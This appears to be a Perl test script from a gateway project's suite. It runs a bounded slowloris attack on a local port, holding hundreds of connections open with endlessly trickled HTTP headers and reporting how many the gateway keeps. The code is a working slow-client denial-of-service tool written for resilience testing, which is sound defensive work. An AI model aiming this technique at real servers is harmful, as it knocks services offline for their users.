#!/usr/bin/perl
# test/tools/slowloris.pl - a bounded slow-client attack on a local gateway (issue 9, item 8),
# for test/suites/slowloris.sh and bench/slowloris.sh. Keeps CONNECTIONS connections open
# from one local address, each sending a request line and then one more header line every
# INTERVAL seconds, never ending its headers; a connection the gateway closes (or refuses)
# is opened again at the next tick, as a real attacker would. Stops after SECONDS and prints
# one line: "slowloris: opened N, held min/avg/max M/A/X, reopened R, refused F", where
# held counts, at each tick after the first, the connections still open since the last.
#
#   slowloris.pl PORT [FROM=127.0.0.2] [CONNECTIONS=600] [SECONDS=20] [INTERVAL=1]
#
# Needs about CONNECTIONS open files (the caller raises `ulimit -n`). Writes "ready" to
# stderr once the first round of connections is open.
use strict;
use warnings;
use IO::Socket::INET;
use Time::HiRes qw(time sleep);

my ($port, $from, $n, $secs, $interval) = @ARGV;
die "usage: slowloris.pl PORT [FROM] [CONNECTIONS] [SECONDS] [INTERVAL]\n" unless $port;
$from ||= '127.0.0.2';
$n ||= 600;
$secs ||= 20;
$interval ||= 1;
$SIG{PIPE} = 'IGNORE';

my @socks = (undef) x $n;
my ($opened, $reopened, $refused, $line) = (0, 0, 0, 0);
my @held;

sub open_one {
	my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port, LocalAddr => $from,
		Proto => 'tcp', Timeout => 2);
	if (!$s) { $refused++; return undef }
	$s->blocking(0);
	$opened++;
	# the request line and a first header, never the blank line that ends the headers
	syswrite($s, "GET /api/v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\n");
	return $s;
}

# whether the gateway closed s (EOF or an error on read; it never answers anything else)
sub closed {
	my $s = shift;
	my $buf;
	my $r = sysread($s, $buf, 4096);
	return 1 if defined $r && $r == 0;
	return 0 if !defined $r && ($!{EAGAIN} || $!{EWOULDBLOCK});
	return 1;
}

my $end = time + $secs;
my $first = 1;
while (time < $end) {
	my $tick = time;
	my $kept = 0;
	for my $i (0 .. $n - 1) {
		my $s = $socks[$i];
		if ($s && (closed($s) || !defined syswrite($s, 'X-Slow-' . $line++ . ": 1\r\n"))) {
			close $s;
			$s = undef;
		}
		elsif ($s) { $kept++ }
		if (!$s) {
			$reopened++ unless $first;
			$s = open_one();
		}
		$socks[$i] = $s;
		last if time >= $end;
	}
	push @held, $kept unless $first;
	if ($first) { print STDERR "ready\n"; $first = 0 }
	my $left = $interval - (time - $tick);
	sleep $left if $left > 0;
}
close $_ for grep { defined } @socks;
@held = (0) unless @held;
my ($min, $max, $sum) = ($held[0], $held[0], 0);
for (@held) { $min = $_ if $_ < $min; $max = $_ if $_ > $max; $sum += $_ }
printf "slowloris: opened %d, held min/avg/max %d/%.0f/%d, reopened %d, refused %d\n",
	$opened, $min, $sum / @held, $max, $reopened, $refused;
